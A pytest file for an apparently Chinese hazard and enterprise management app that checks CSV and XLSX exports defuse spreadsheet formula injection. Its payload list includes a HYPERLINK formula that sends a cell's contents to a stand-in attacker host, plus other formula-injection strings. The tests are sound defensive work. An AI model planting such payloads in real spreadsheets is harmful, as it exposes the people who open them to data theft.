"""CSV/Excel formula injection (OWASP): every exported text cell starting with = + - @ tab or CR is prefixed with
``'``; numbers stay numbers; our import takes the prefix off again (R-H6, R-N5 exports; issue 14 item 6).

Each export is checked by parsing the produced file, with the sweep's payloads in user-entered text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from werkzeug.datastructures import FileStorage

from core.services import assessments, hazards, importexport
from core.services import enterprises as ent_service
from core.services.actors import SYSTEM
from core.services.xlsx import neutralise

PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', "=1+1", "+1+2", "-1+2", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def parse(body: bytes, fmt: str) -> list[list]:
    """All rows of an export, as a spreadsheet would read the cells (xlsx: formulas would come back as
    ``data_type == "f"``; every cell here must be text or a number)."""
    if fmt == "csv":
        assert body.startswith(b"\xef\xbb\xbf")
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    ws = load_workbook(io.BytesIO(body)).worksheets[0]
    rows = []
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        rows.append([cell.value for cell in row])
    return rows


def body(resp) -> bytes:
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    return b"".join(resp.response) if resp.is_streamed else resp.data


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hazard_export_neutralises_every_payload_and_keeps_numbers(login, session, world, fmt):
    inspector = world.user(session, "xa_insp")
    ids = {}
    for payload in PAYLOADS:
        h = hazards.register_hazard(session, inspector, {
            "enterprise_id": world.enterprises["E1"], "description": payload, "location": payload,
            "category": "thing"})
        ids[h.id] = payload
    session.commit()
    rows = parse(body(login("xa_reg").get(f"/hazards/export.{fmt}")), fmt)
    header, data = rows[0], rows[1:]
    by_id = {int(r[0]): r for r in data if r[0] is not None and int(r[0]) in ids}
    assert set(by_id) == set(ids)
    for hid, payload in ids.items():
        row = by_id[hid]
        for column in ("隐患描述", "隐患部位"):
            assert row[header.index(column)] == "'" + payload, (column, row)
        if fmt == "xlsx":
            assert isinstance(row[0], int)  # the 编号 column is a number, not neutralised text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_enterprise_export_neutralises_and_reads_back_unchanged(login, session, world, fmt):
    e1 = world.ent(session, "E1")
    client = login("xa_reg")
    for i, payload in enumerate(PAYLOADS):
        ent_service.update_enterprise(session, SYSTEM, e1.id, {"version": e1.version, "address": payload,
                                                               "employee_count": 10 + i})
        session.commit()
        exported = body(client.get(f"/enterprises/export.{fmt}", query_string={"q": e1.uscc}))
        rows = parse(exported, fmt)
        header = rows[0]
        (row,) = [r for r in rows[1:] if e1.uscc in r]
        assert row[header.index("地址")] == "'" + payload
        count = row[header.index("从业人员数")]
        assert count == (10 + i if fmt == "xlsx" else str(10 + i))
        # Our import reads the prefix back off: an exported file round-trips.
        _, read = importexport._read_rows(FileStorage(io.BytesIO(exported), filename=f"企业.{fmt}"), 100)
        (back,) = [r for r in read if e1.uscc in r]
        assert back[header.index("地址")] == payload.strip(), payload


def test_assessment_report_workbook_neutralises_user_text(app):
    """openpyxl stores a string starting with ``=`` as a live formula: the 自评报告 workbook neutralises too."""
    ctx = {
        "assessment": {"year": 2026, "criteria": "=1+1", "sector_criteria": [], "status": "draft",
                       "team_leader": "@SUM(A1)", "team_members": ["-1+2"], "signer_name": "+1"},
        "result": {"applicable_total": 100, "earned": -5, "score": 80.5, "grade": "二级", "reason": "=HYPERLINK(\"x\")"},
        "enterprise": {"name": "测试企业", "uscc": "91350200MA00000000"},
        "rules_label": "", "elements": [],
        "deducted": [{"element": "目标", "code": "1.1", "text": "=1+1", "standard": 5, "score": 0, "deduction": 5,
                      "vetoed": False, "reason": '=HYPERLINK("http://evil.example","x")', "hazard_id": 7}],
    }
    wb = load_workbook(io.BytesIO(assessments.workbook(ctx)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert {"'=1+1", "'@SUM(A1)", "'-1+2", "'+1", '\'=HYPERLINK("x")'} <= texts
    assert -5 in texts and 80.5 in texts  # numbers stay numbers, a negative one too


def test_xlsx_keeps_carriage_returns():
    """A raw CR in XML reads back as LF (which would hide the ' prefix from the import): it is kept."""
    from core.services.xlsx import stream_xlsx

    data = b"".join(stream_xlsx(["a"], [["\r=1"], ["行一\r\n行二"]], "s"))
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [r[0] for r in ws.iter_rows(min_row=2, values_only=True)] == ["\r=1", "行一\r\n行二"]


def test_neutralise_is_the_one_rule():
    assert [neutralise(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert neutralise(-3) == -3 and neutralise(-2.5) == -2.5 and neutralise(None) is None
    assert neutralise("厦门市翔安区") == "厦门市翔安区" and neutralise("'=1") == "'=1"
